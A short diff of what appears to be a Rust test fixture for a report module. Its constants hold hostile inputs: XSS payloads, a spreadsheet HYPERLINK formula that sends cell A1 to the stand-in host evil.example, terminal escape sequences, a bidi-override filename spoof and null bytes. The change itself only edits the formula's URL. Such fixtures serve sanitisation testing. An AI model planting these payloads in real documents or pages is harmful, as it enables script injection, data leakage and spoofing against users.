@@ -12,7 +12,7 @@ use sekisho::report::{self, Report};
 const MARKUP: &str = "<img src=x onerror=alert(document.domain)>";
 const ATTRIBUTE: &str = "\"'><svg/onload=alert(1)>";
 const CLOSING: &str = "</pre></style></script><script>alert(1)</script>";
-const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
+const FORMULA: &str = "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")";
 const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31m\u{9b}1m";
 const BIDI: &str = "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}";
 const ZEROS: &str = "a\0b\0";
